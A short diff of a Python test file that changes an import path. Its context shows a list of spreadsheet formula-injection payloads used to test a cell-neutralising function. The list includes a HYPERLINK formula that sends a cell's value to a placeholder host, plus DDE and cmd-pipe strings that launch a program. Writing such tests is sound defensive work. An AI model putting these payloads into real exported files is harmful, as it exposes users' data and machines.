@@ -13,7 +13,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from altena_qca._cells import FORMULA_START, neutralise
-from altena_qca.report.tables import write_csv, write_workbook
+from altena_qca._io import write_csv, write_workbook
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"klik")', "=1+2", "+1+2", "-1+2", "@SUM(A1:A9)",
            "\t=1+2", "\r=1+2", " =cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")"]
